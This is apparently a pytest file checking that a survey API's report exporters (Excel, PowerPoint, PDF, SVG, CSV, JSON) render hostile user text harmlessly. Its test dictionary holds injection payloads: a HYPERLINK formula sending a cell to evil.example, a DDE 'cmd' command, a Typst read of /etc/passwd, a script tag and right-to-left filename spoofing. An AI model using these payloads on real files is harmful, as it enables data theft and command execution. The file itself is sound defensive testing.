"""Whatever people write stays text: no formula, no link, no markup, no turned reading order."""

import csv
import io
import re
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from pptx import Presentation

from survey_api.published.reports.csv import to_csv
from survey_api.published.reports.json import to_json
from survey_api.published.reports.pdf import to_pdf, to_png
from survey_api.published.reports.pptx import to_pptx
from survey_api.published.reports.trend_chart import trend_svg
from survey_api.published.reports.words import clean, file_name
from survey_api.published.reports.xlsx import to_xlsx
from tests.published.reports import samples

TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "tab": "\t=1+1",
    "typst": '#link("http://evil.example")[x] #read("/etc/passwd") $x$ *b* _i_ `r` <l> @c',
    "markup": '<a href="http://evil.example">x</a><script>alert(1)</script>&amp;"\'',
    "address": "http://evil.example/?q=1",
    "turned": "abc \u202egnp.exe\u202c \u2067x\u2069",
    "braces": "{n} {0} {wave.__class__} %s",
    "emoji": "Team \U0001f680 漢字 \u0627\u0644 \x07",
    "long": "Customer operations and everything that belongs to it " * 3,
}
named = pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
LINKS = re.compile(rb"/URI|/Launch|/JavaScript|/S/GoToR")


@named
def test_a_workbook_has_no_formula_and_no_link(text: str) -> None:
    content = to_xlsx(samples.hostile(text))
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert not [cell for cell in cells if cell.hyperlink]
    assert clean(text) in {cell.value for cell in cells}
    inner = zipfile.ZipFile(io.BytesIO(content))
    charts = [inner.read(one) for one in inner.namelist() if "charts/chart" in one]
    sheets = set(map(str.encode, book.sheetnames))
    told = {one for chart in charts for one in re.findall(rb"<c:f>(.*?)</c:f>", chart)}
    assert told and all(re.fullmatch(rb"(\w+)(![$A-Z0-9:]+)", one) for one in told)
    assert {one.split(b"!")[0] for one in told} <= sheets
    for name in inner.namelist():
        assert "externalLink" not in name
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in inner.read(name)


@named
def test_slides_have_no_link_and_their_workbooks_no_formula(text: str) -> None:
    content = to_pptx(samples.hostile(text))
    inner = zipfile.ZipFile(io.BytesIO(content))
    for name in inner.namelist():
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in inner.read(name)
        if name.endswith(".xlsx"):
            book = openpyxl.load_workbook(io.BytesIO(inner.read(name)))
            kinds = {cell.data_type for row in book.active.iter_rows() for cell in row}
            assert kinds <= {"s", "n"}
    deck = Presentation(io.BytesIO(content))
    assert all(slide.shapes.title.text_frame.text for slide in deck.slides)


@named
def test_a_pdf_shows_the_text_and_follows_no_link(text: str, tmp_path: Path) -> None:
    content = to_pdf(samples.hostile(text))
    assert not LINKS.search(content)
    file = tmp_path / "report.pdf"
    file.write_bytes(content)
    told = subprocess.run(["pdftotext", str(file), "-"], check=True, capture_output=True)
    shown = "".join(told.stdout.decode().split())
    letters = [one for one in re.findall(r"[A-Za-z]{3,}", clean(text)) if one.isascii()]
    assert all(one in shown.replace("\u00ad", "") for one in letters)
    assert "root:" not in shown


@named
def test_a_drawing_is_well_formed_and_holds_nothing_but_shapes_and_text(text: str) -> None:
    for trend in samples.hostile(text).trends[:1]:
        drawn = trend_svg(trend, samples.whole().words)
        tags = {one.tag.rpartition("}")[2] for one in ElementTree.fromstring(drawn).iter()}  # noqa: S314
        assert tags <= {
            *("svg", "title", "defs", "pattern", "rect", "line", "text"),
            *("polyline", "polygon", "circle"),
        }
        assert to_png(drawn).startswith(b"\x89PNG")


@named
def test_in_csv_and_json_it_is_a_cell_and_a_string(text: str) -> None:
    report = samples.hostile(text)
    rows = list(csv.reader(io.StringIO(to_csv(report.results).decode("utf-8-sig"))))
    assert not [cell for row in rows for cell in row if cell[:1] in {"=", "@", "\t", "\r"}]
    assert not [cell for row in rows for cell in row if cell[:1] == "+" and not is_number(cell)]
    assert to_json(report).decode()


def is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?\d+\.\d", cell) is not None


@named
def test_a_file_name_holds_letters_digits_and_hyphens_only(text: str) -> None:
    for name in (file_name(text, ending="pdf"), file_name("Größe & Straße", text, ending="pdf")):
        assert re.fullmatch(r"[a-z0-9-]{1,90}\.pdf", name)
    assert file_name("漢字", ending="pdf") == "report.pdf"
